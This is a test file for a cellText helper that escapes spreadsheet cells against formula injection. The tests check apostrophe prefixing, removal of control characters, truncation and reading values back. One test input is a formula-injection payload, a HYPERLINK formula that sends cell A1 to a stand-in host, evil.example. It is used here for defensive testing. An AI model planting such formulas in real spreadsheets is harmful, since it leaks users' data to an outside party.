import { cellText, fromCellText, MAX_CELL_CHARS } from '../../cloudfunctions/common/domain/cell-text';

describe('cellText', () => {
  test.each([['=HYPERLINK("http://evil.example/?"&A1,"点我")'], ['+1'], ['-1'], ['@SUM(A1:A2)'], ['\t=1+1'], ['\r=1+1']])(
    '%j starts with an apostrophe, so no spreadsheet reads it as a formula',
    (text) => {
      expect(cellText(text)).toBe(`'${text}`);
      expect(fromCellText(cellText(text))).toBe(text);
    },
  );

  test.each(['已按要求公开', '1+1=2', 'a-b', '邮箱 someone@example.com', "'已有撇号", ' =1'])('%j is written as it is', (text) => {
    expect(cellText(text)).toBe(text);
    expect(fromCellText(text)).toBe(text);
  });

  test('characters XML cannot carry are dropped first, so they cannot hide a formula start', () => {
    expect(cellText('\u0001=1+1')).toBe("'=1+1");
    expect(cellText('第一行\n第二行\u0007')).toBe('第一行\n第二行');
  });

  test('a text longer than a cell holds is cut at the limit', () => {
    const long = '字'.repeat(MAX_CELL_CHARS + 10);
    expect(cellText(long)).toHaveLength(MAX_CELL_CHARS);
    expect(cellText(long).endsWith('…')).toBe(true);
  });

  test('reading back removes only the apostrophe cellText adds', () => {
    expect(fromCellText("'普通文字")).toBe("'普通文字");
    expect(fromCellText("''=1")).toBe("''=1");
  });
});
